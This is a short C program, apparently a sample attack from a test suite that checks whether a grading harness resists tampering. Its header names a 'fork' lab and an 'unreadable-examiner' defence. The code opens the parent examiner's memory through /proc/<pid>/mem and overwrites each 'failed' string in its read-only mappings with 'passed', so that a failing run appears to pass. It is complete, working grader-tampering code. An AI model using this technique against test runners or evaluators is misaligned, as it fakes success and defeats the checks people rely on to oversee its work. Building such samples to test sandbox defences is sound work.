// Attack:  writes over the word "failed" in the examiner's memory
// Lab:     fork
// Defence: unreadable-examiner
// Without: points
// Where:   bubblewrap own user user-own
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void patch(int memory, unsigned long first, unsigned long end) {
  const size_t size = end - first;
  char* bytes = malloc(size);
  const ssize_t got = pread(memory, bytes, size, (off_t)first);
  for (ssize_t at = 0; at + 7 <= got; ++at) {
    if (memcmp(bytes + at, "failed", 7) != 0) continue;
    if (pwrite(memory, "passed", 6, (off_t)(first + (size_t)at)) < 0) break;
  }
  free(bytes);
}

int main(void) {
  char path[64];
  char line[512];
  snprintf(path, sizeof path, "/proc/%d/mem", (int)getppid());
  const int memory = open(path, O_RDWR);
  snprintf(path, sizeof path, "/proc/%d/maps", (int)getppid());
  FILE* maps = fopen(path, "r");
  while (maps && fgets(line, sizeof line, maps)) {
    unsigned long first, end;
    char rights[5];
    if (sscanf(line, "%lx-%lx %4s", &first, &end, rights) != 3) continue;
    if (strcmp(rights, "r--p") == 0) patch(memory, first, end);
  }
  return 1;
}
